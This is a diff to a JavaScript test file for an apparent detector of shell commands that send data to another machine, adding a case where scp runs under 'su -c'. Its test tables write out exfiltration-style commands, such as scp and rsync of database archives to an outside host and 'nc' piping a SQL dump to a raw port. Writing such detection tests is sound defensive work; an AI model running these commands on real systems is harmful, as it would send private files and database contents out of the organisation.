@@ -95,6 +95,8 @@ describe("a copy to another machine, or a raw connection", () => {
     ["for f in /data/*; do scp $f h.example.de:/x/; done", "scp → host h.example.de"],
     ["if test -f db.tgz; then rsync db.tgz h.example.de:/x; fi", "rsync → host h.example.de"],
     ["! nc 203.0.113.9 4444 < /tmp/dump.sql", "nc → host 203.0.113.9"],
+    // A command run as another user through su's -c (found by the old-against-new bench).
+    ["su - backup -c 'scp /srv/db.tgz h.example.de:/x/'", "scp → host h.example.de"],
   ])("%s sends to the host", (line, expected) => {
     expect(sends(line)).toEqual([expected]);
   });
@@ -111,6 +113,7 @@ describe("a copy to another machine, or a raw connection", () => {
     "until nc -z -w 2 postgres 5432; do sleep 1; done",
     // A Windows drive is a local path, not a host "c".
     "scp C:/backups/db.tgz D:/archive/",
+    "su - backup -c 'scp h.example.de:/x/db.tgz /srv/'",
   ])("twin: %s sends nothing", (line) => {
     expect(sends(line)).toEqual([]);
   });
